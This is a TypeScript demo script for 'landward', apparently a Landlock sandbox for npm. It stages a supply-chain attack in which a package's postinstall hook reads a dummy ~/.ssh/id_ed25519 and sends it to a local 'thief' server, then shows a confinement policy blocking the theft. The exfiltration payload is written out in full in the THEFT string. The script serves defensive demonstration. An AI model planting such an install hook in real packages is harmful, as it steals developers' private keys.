/**
 * `npm run demo`: a project installs its dependencies, and one of them is a thief. Once without landward, once confined:
 * the real npm, a registry and a thief's server on the loopback interface, and a private key in a home made for the demo.
 * Without Landlock nothing runs; the model's verdicts are shown instead (also with `--simulate`).
 */

import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { landlockAbi } from '../test/kit/needs.ts';
import { startRegistry } from '../test/kit/registry.ts';

const bin = resolve(import.meta.dirname, '../packages/landward/bin/landward.js');
const place = realpathSync(mkdtempSync(join(tmpdir(), 'landward-demo-')));
const home = join(place, 'home');
const project = join(home, 'shop');

/** What the thief's package runs when it is installed. */
const THEFT = `
const fs = require('fs'), os = require('os'), net = require('net');
fs.writeFileSync('built.js', 'module.exports = "built by the postinstall script"');
try {
  const key = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');
  const socket = net.connect(process.env.THIEF_PORT, '127.0.0.1', () => socket.end(key));
  socket.on('error', () => {});
} catch {}
`;

const PACKAGES = {
  'tidy-dates': { 'index.js': 'module.exports = () => "22 November"' },
  'pretty-colours': { 'index.js': 'module.exports = "blue"', 'steal.js': THEFT },
} as const;

interface Outcome {
  readonly status: number | null;
  readonly stderr: string;
  readonly installed: readonly string[];
  readonly built: boolean;
  readonly stolen: string;
}

function write(file: string, text: string): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

function makePackages(): readonly string[] {
  return Object.entries(PACKAGES).map(([name, files]) => {
    const folder = join(place, 'packages', name);
    const scripts = 'steal.js' in files ? { postinstall: 'node steal.js' } : {};
    write(
      join(folder, 'package.json'),
      JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts }),
    );
    for (const [file, text] of Object.entries(files)) write(join(folder, file), text);
    return folder;
  });
}

const run = (command: readonly string[], env: NodeJS.ProcessEnv) =>
  new Promise<{ status: number | null; stdout: string; stderr: string }>((done) => {
    const child = spawn(command[0]!, command.slice(1), {
      cwd: project,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let [stdout, stderr] = ['', ''];
    child.stdout.on('data', (text) => {
      stdout += text;
    });
    child.stderr.on('data', (text) => {
      stderr += text;
    });
    child.once('close', (status) => done({ status, stdout, stderr }));
  });

async function main(): Promise<void> {
  const simulate = process.argv.includes('--simulate') || landlockAbi() === 0;
  write(join(home, '.ssh/id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\n');
  mkdirSync(join(place, 'tmp'));
  const registry = await startRegistry(makePackages());
  let stolen = '';
  const thief = createServer((socket) => socket.on('data', (text) => (stolen += text)));
  await new Promise<void>((ready) => thief.listen(0, '127.0.0.1', ready));
  const env: NodeJS.ProcessEnv = {
    HOME: home,
    // The demo's home lies in /tmp itself, which @npm lets programs write.
    TMPDIR: join(place, 'tmp'),
    PATH: process.env.PATH,
    npm_config_registry: registry.url,
    npm_config_update_notifier: 'false',
    THIEF_PORT: String((thief.address() as AddressInfo).port),
  };
  const dependencies = Object.fromEntries(Object.keys(PACKAGES).map((name) => [name, '1.0.0']));
  write(
    join(project, 'package.json'),
    JSON.stringify({ name: 'shop', version: '1.0.0', private: true, dependencies }, null, 2),
  );
  await run(['npm', 'install', '--package-lock-only', '--no-audit', '--no-fund'], env);

  const policy = join(home, 'npm.toml');
  const text = [
    'extends = ["@npm"]',
    '[fs]',
    'write = ["$project"]',
    '[net]',
    `connect = ["tcp:${registry.port}"]        # the registry`,
    '[[test]]',
    'deny = "read ~/.ssh/id_ed25519"',
    '',
  ].join('\n');
  write(policy, text);

  const attempt = async (before: readonly string[]): Promise<Outcome> => {
    stolen = '';
    rmSync(join(project, 'node_modules'), { recursive: true, force: true });
    rmSync(join(home, '.npm'), { recursive: true, force: true });
    const { status, stderr } = await run([...before, 'npm', 'ci', '--no-audit', '--no-fund'], env);
    const built = exists(join(project, 'node_modules/pretty-colours/built.js'));
    const installed = Object.keys(PACKAGES).filter((name) =>
      exists(join(project, 'node_modules', name, 'package.json')),
    );
    return { status, stderr, installed, built, stolen };
  };

  console.log(
    'A project installs two packages. One of them steals: its postinstall script sends ~/.ssh/id_ed25519 away.\n',
  );
  const landward = [process.execPath, bin];
  if (simulate) await verdicts(landward, policy, registry.port, env);
  else {
    tell('npm ci', await attempt([]));
    console.log(`\nThe policy, npm.toml:\n\n${text.replace(/^(?=.)/gm, '    ')}`);
    const outcome = await attempt([...landward, 'run', '-p', policy, '--report', '--']);
    tell('landward run -p npm.toml --report -- npm ci', outcome);
    // The report's first line sums it up; the rest is for who wants every detail.
    if (outcome.status === 0) console.log(`    ${outcome.stderr.split('\n')[0]}`);
    console.log();
    await verdicts(landward, policy, registry.port, env);
  }
  thief.close();
  await registry.close();
}

function tell(command: string, { status, stderr, installed, built, stolen }: Outcome): void {
  console.log(`$ ${command}`);
  console.log(
    `    exit status ${status}, installed: ${installed.join(', ') || 'nothing'}; the install script ${built ? 'ran' : 'did not run'}`,
  );
  console.log(stolen === '' ? '    The thief got nothing.' : `    The thief got: ${stolen.trim()}`);
  if (status !== 0) console.log(stderr.replace(/^(?=.)/gm, '    '));
}

/** What the model says: the same answers that the kernel gave above, with their reasons. */
async function verdicts(
  landward: readonly string[],
  policy: string,
  port: number,
  env: NodeJS.ProcessEnv,
): Promise<void> {
  if (landlockAbi() === 0)
    console.log('This kernel has no Landlock: nothing is run. What the policy would do:\n');
  const questions = [
    ['read', '~/.ssh/id_ed25519'],
    ['connect', `tcp:${port}`],
    ['connect', `tcp:${env.THIEF_PORT}`],
  ] as const;
  for (const [operation, target] of questions) {
    const { stdout, stderr } = await run([...landward, 'why', policy, '--', operation, target], env);
    console.log(
      `$ landward why npm.toml -- ${operation} ${target}\n${`${stdout}${stderr}`.trimEnd().replace(/^(?=.)/gm, '    ')}`,
    );
  }
}

function exists(file: string): boolean {
  try {
    return readFileSync(file).length > 0;
  } catch {
    return false;
  }
}

try {
  await main();
} finally {
  rmSync(place, { recursive: true, force: true });
}
